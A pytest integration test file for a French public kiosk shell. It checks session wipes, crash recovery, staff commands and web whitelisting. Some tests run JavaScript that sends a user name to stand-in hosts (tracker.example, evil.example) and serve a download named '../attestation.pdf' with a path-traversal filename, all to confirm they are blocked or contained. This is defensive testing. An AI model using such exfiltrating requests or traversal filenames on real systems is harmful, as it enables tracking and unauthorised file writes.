"""A whole guest session in the real shell window: code, tiles, a site, the end, the wipe."""

from __future__ import annotations

import subprocess
from datetime import timedelta
from pathlib import Path

from PySide6.QtCore import Qt
from PySide6.QtGui import QShortcut
from pytestqt.qtbot import QtBot
from sqlalchemy import select

from kiosk.core.codes import generate_code
from kiosk.core.session import EndReason
from kiosk.shell.window import ShellWindow
from kiosk.store.models import Event, GuestSession
from tests.agent.conftest import LiveStore
from tests.shell.conftest import open_caf, run_js, toast_texts, type_code
from tests.webproxy import WebProxy


def end_reasons(live_store: LiveStore) -> list[str | None]:
    """How the store's sessions ended, read in a transaction closed before returning.

    The values are read before the rollback: touching a row after it would reload it and
    leave a transaction open, and the test's engine takes SQLite's write lock at every
    begin, so the store's writes would wait on it and answer "database busy".
    """
    live_store.db.expire_all()
    reasons = [session.end_reason for session in live_store.db.scalars(select(GuestSession))]
    live_store.db.rollback()
    return reasons


def test_a_whole_session_then_nothing_is_left(qtbot: QtBot, window: ShellWindow,
                                              live_store: LiveStore) -> None:
    shell = window
    assert shell.showing_lock
    type_code(qtbot, shell, live_store.code(minutes=30))
    qtbot.waitUntil(lambda: not shell.showing_lock, timeout=30_000)
    assert "29 min" in shell.session_view.time_left.text() or \
        "30 min" in shell.session_view.time_left.text()
    open_caf(qtbot, shell)
    running = shell.running
    assert running is not None
    stored = run_js(qtbot, shell, "localStorage.setItem('guest', 'Dupont'); "
                                  "document.cookie = 'guest=Dupont'; "
                                  "localStorage.getItem('guest') + document.cookie")
    assert stored == "Dupontguest=Dupont"
    (running.folder.documents / "attestation.pdf").write_bytes(b"%PDF-1.4")

    qtbot.mouseClick(shell.session_view.end_button, Qt.MouseButton.LeftButton)
    assert shell.session_view.confirm.isVisible()
    assert "effacé" in shell.session_view.confirm_text.text()
    with qtbot.waitSignal(shell.wiped, timeout=10_000):
        qtbot.mouseClick(shell.session_view.confirm_yes, Qt.MouseButton.LeftButton)
    assert shell.showing_lock
    assert shell.last_wipe is not None
    assert shell.last_wipe.verified
    assert shell.last_wipe.files >= 1
    # The guest leaving reads that it is over and that nothing of it is left.
    assert shell.lock.message.isVisible()
    assert shell.lock.message.text() == "Session terminée — tout a été effacé."
    assert shell.lock.field.text() == ""
    assert not running.folder.exists()
    # The report is queued, and may already be on its way with the session's close.
    shell.agent.deliver()
    live_store.db.expire_all()
    reports = [event.data for event in live_store.db.scalars(
        select(Event).where(Event.type == "wipe_report"))]
    live_store.db.rollback()
    assert len(reports) == 1
    assert reports[0]["verified"] is True
    assert "attestation" not in str(reports)

    qtbot.waitUntil(lambda: end_reasons(live_store) == ["user"], timeout=10_000)

    # The next guest finds nothing of the previous one.
    type_code(qtbot, shell, live_store.code(minutes=30))
    qtbot.waitUntil(lambda: not shell.showing_lock, timeout=30_000)
    open_caf(qtbot, shell)
    assert run_js(qtbot, shell, "String(localStorage.getItem('guest')) + '|' + "
                                "document.cookie") == "null|"


def test_a_wrong_code_is_explained_in_french(qtbot: QtBot, window: ShellWindow) -> None:
    type_code(qtbot, window, "K7M2-9QHX-T")
    qtbot.waitUntil(lambda: refusal_shown(window), timeout=30_000)
    assert "Vérifiez le ticket" in window.lock.message.text()
    assert window.showing_lock


def refusal_shown(shell: ShellWindow) -> bool:
    """The store has answered: the lock screen says why, no longer that it is checking."""
    return shell.lock.message.isVisible() and shell.lock.keys["ok"].isEnabled()


def test_a_typo_and_an_unknown_code_get_different_words(
        qtbot: QtBot, window: ShellWindow, live_store: LiveStore) -> None:
    """A symbol mistyped (caught by the check symbol) is told apart from a code that does
    not exist, in the shell's own words (the guest's language), not the store's."""
    valid = live_store.code()
    typo = valid[:1] + ("A" if valid[1] != "A" else "B") + valid[2:]
    type_code(qtbot, window, typo)
    qtbot.waitUntil(lambda: refusal_shown(window), timeout=30_000)
    mistyped = window.lock.message.text()
    assert "mal tapé" in mistyped
    while window.lock.field.text():  # the field is kept for a correction: erased first
        qtbot.mouseClick(window.lock.keys["erase"], Qt.MouseButton.LeftButton)
    type_code(qtbot, window, generate_code())
    qtbot.waitUntil(lambda: refusal_shown(window)
                    and window.lock.message.text() != mistyped, timeout=30_000)
    assert window.lock.message.text() == ("Ce code n’existe pas. Vérifiez le ticket, ou "
                                          "demandez à l’accueil.")
    assert window.showing_lock


def test_escape_shortcuts_are_taken_by_the_shell(window: ShellWindow) -> None:
    taken = {shortcut.key().toString() for shortcut in window.findChildren(QShortcut)}
    assert {"Alt+F4", "Ctrl+W", "F11", "F12", "Ctrl+Shift+I", "Ctrl+Q"} <= taken


def test_after_a_crash_the_next_start_wipes_and_closes_the_session(
        qtbot: QtBot, window: ShellWindow, live_store: LiveStore, tmp_path: Path) -> None:
    shell = window
    type_code(qtbot, shell, live_store.code(minutes=30))
    qtbot.waitUntil(lambda: not shell.showing_lock, timeout=30_000)
    running = shell.running
    assert running is not None
    (running.folder.documents / "releve.pdf").write_bytes(b"%PDF-1.4")
    # The power goes: nothing is wiped, nothing is closed. The station starts again.
    restarted = ShellWindow(policy=shell.policy, agent=shell.agent, gate=shell.gate,
                            session_root=tmp_path / "session", place_name="Centre social Nord")
    qtbot.addWidget(restarted)
    assert restarted.last_wipe is not None
    assert restarted.last_wipe.verified
    assert restarted.last_wipe.files >= 1
    assert not (tmp_path / "session").exists()

    qtbot.waitUntil(lambda: end_reasons(live_store) == ["crash_recovered"], timeout=10_000)
    shell.running = None  # its window is gone with the crash


def test_staff_commands_reach_the_session(qtbot: QtBot, window: ShellWindow,
                                          live_store: LiveStore) -> None:
    from kiosk.shell.app import apply_commands  # noqa: PLC0415

    shell = window
    type_code(qtbot, shell, live_store.code(minutes=30))
    qtbot.waitUntil(lambda: not shell.showing_lock, timeout=30_000)
    before = shell.rules.remaining(shell.clock())
    apply_commands(shell, [{"id": 1, "kind": "extend", "minutes": 15},
                           {"id": 2, "kind": "message", "text": "La salle ferme à 18 h."}])
    assert shell.rules.remaining(shell.clock()) - before > timedelta(minutes=14)
    assert toast_texts(shell, "reception") == "La salle ferme à 18 h."
    apply_commands(shell, [{"id": 3, "kind": "end_session"}])
    assert "Tout sera effacé" in toast_texts(shell, "warning")
    # The reception's message stays until read, beside the warning.
    assert toast_texts(shell, "reception") == "La salle ferme à 18 h."


def test_the_wipe_stops_programs_the_session_started(qtbot: QtBot, window: ShellWindow,
                                                     live_store: LiveStore) -> None:
    already_running = subprocess.Popen(["sleep", "60"])  # e.g. a service of the station
    try:
        type_code(qtbot, window, live_store.code(minutes=30))
        qtbot.waitUntil(lambda: not window.showing_lock, timeout=30_000)
        left_behind = subprocess.Popen(["sleep", "60"])  # a helper the session started
        with qtbot.waitSignal(window.wiped, timeout=20_000):
            window.apply_effects(window.rules.end(window.clock(), EndReason.USER))
        left_behind.wait(timeout=10)  # stopped, well before its 60 s
        assert already_running.poll() is None
        assert window.last_wipe is not None
        assert window.last_wipe.verified
        assert window.last_wipe.other["processes"] == 1
        assert window.last_wipe.as_event()["counts"]["processes"] == 1  # type: ignore[index]
    finally:
        already_running.kill()
        already_running.wait()


def test_refusals_and_services_are_usage_events_without_addresses(
        qtbot: QtBot, window: ShellWindow, live_store: LiveStore, web_proxy: WebProxy) -> None:
    type_code(qtbot, window, live_store.code(minutes=30))
    qtbot.waitUntil(lambda: not window.showing_lock, timeout=30_000)
    open_caf(qtbot, window)
    run_js(qtbot, window, "fetch('http://tracker.example/pixel?user=dupont').catch(() => 0);"
                          "fetch('http://tracker.example/again').catch(() => 0); true")
    running = window.running
    assert running is not None

    def events(kind: str) -> list[object]:
        return [event["data"] for event in window.agent.outbox.pending()
                if event["type"] == kind]

    qtbot.waitUntil(lambda: bool(events("blocked_navigation")), timeout=10_000)
    run_js(qtbot, window, "window.location.href = 'http://evil.example/offre?nom=dupont'; 1")
    qtbot.waitUntil(lambda: len(events("blocked_navigation")) == 2, timeout=10_000)
    assert sorted(events("blocked_navigation"), key=str) == [  # once per host, host only
        {"host": "evil.example"}, {"host": "tracker.example"}]
    assert events("service_used") == [{"site_id": "caf"}]
    assert "dupont" not in str(window.agent.outbox.pending())
    # The session's profile checks every request: nothing refused reached the network.
    assert web_proxy.hosts_requested() == {"www.caf.fr"}


def test_a_download_lands_in_my_documents(qtbot: QtBot, window: ShellWindow,
                                          live_store: LiveStore, web_proxy: WebProxy) -> None:
    web_proxy.serve("www.caf.fr", "/attestation", b"%PDF-1.4 attestation",
                    content_type="application/pdf",
                    headers={"Content-Disposition": 'attachment; filename="../attestation.pdf"'})
    type_code(qtbot, window, live_store.code(minutes=30))
    qtbot.waitUntil(lambda: not window.showing_lock, timeout=30_000)
    open_caf(qtbot, window)
    run_js(qtbot, window, "window.location.href = 'http://www.caf.fr/attestation'; 1")
    running = window.running
    assert running is not None
    qtbot.waitUntil(lambda: [p.name for p in running.folder.document_files()]
                    == ["attestation.pdf"], timeout=20_000)
    window.show_documents()
    assert window.documents.list.item(0).text() == "attestation.pdf"


def test_the_lock_screen_follows_the_hours_the_store_gives(
        qtbot: QtBot, window: ShellWindow, live_store: LiveStore) -> None:
    from kiosk.shell.app import start_heartbeat, station_health  # noqa: PLC0415

    week = ("monday", "tuesday", "wednesday", "thursday", "friday", "saturday", "sunday")
    live_store.site.name = "Maison des habitants Sud"
    live_store.site.opening_hours = {day: [] for day in week}  # closed every day
    live_store.site.stations_revision += 1  # as every change of a site does: heartbeats see it
    live_store.db.commit()
    timer = start_heartbeat(window, station_health)  # beats at once
    qtbot.waitUntil(lambda: window.lock.place.text() == "Maison des habitants Sud",
                    timeout=15_000)
    assert window.lock.title.text() == "Le lieu est fermé en ce moment."
    assert window.lock.field.isReadOnly()
    assert window.lock.hours.text() == "Fermé aujourd’hui"
    # Open all day from now on: typing is offered again at the next heartbeat.
    live_store.site.opening_hours = {day: ["00:00-23:59"] for day in week}
    live_store.site.stations_revision += 1
    live_store.db.commit()
    timer.timeout.emit()
    qtbot.waitUntil(lambda: not window.lock.field.isReadOnly(), timeout=15_000)
    assert "00:00-23:59" in window.lock.hours.text()
    # What the station reports: the whitelist it runs and its software's version.
    from sqlalchemy import select  # noqa: PLC0415

    from kiosk import __version__  # noqa: PLC0415
    from kiosk.store.models import Station  # noqa: PLC0415

    def reported() -> bool:
        live_store.db.expire_all()
        station = live_store.db.scalars(select(Station)).one()
        return (station.policy_version == window.policy.digest
                and station.health.get("software_version") == __version__)

    assert window.policy.digest
    qtbot.waitUntil(reported, timeout=15_000)
    timer.stop()


def test_a_site_without_the_help_button_hides_it(qtbot: QtBot, window: ShellWindow) -> None:
    window.use_site({"name": "Centre social Nord", "timezone": "Europe/Paris",
                     "opening_hours": {}, "help_button": False})
    assert window.session_view.call_reception.isHidden()
    assert window.time_warning.ask_button.isHidden()
    window.use_site({"name": "Centre social Nord", "timezone": "Europe/Paris",
                     "opening_hours": {}, "help_button": True})
    assert not window.session_view.call_reception.isHidden()
